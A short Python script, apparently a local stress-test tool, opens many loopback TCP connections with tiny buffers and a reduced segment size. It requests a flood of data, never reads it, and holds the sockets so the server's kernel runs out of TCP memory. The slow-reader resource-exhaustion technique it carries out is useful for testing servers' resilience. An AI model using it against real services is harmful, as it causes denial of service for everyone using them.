# Connections that ask for a flood and never read, with small socket buffers: with the default ones the kernel itself
# runs short of memory for TCP and slows every connection. Usage: clog.py port count; ends with its standard input.
import resource, socket, sys, time

port, count = int(sys.argv[1]), int(sys.argv[2])
limit = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (limit[1], limit[1]))
held = []
for _ in range(count):
    peer = socket.socket()
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2048)
    # The server's send buffer grows with the segments that it may send: over a loopback those are of 64 KiB.
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
    peer.connect(("127.0.0.1", port))
    peer.sendall(b"\0\0\0\1f")
    held.append(peer)
print(len(held), flush=True)
sys.stdin.read()
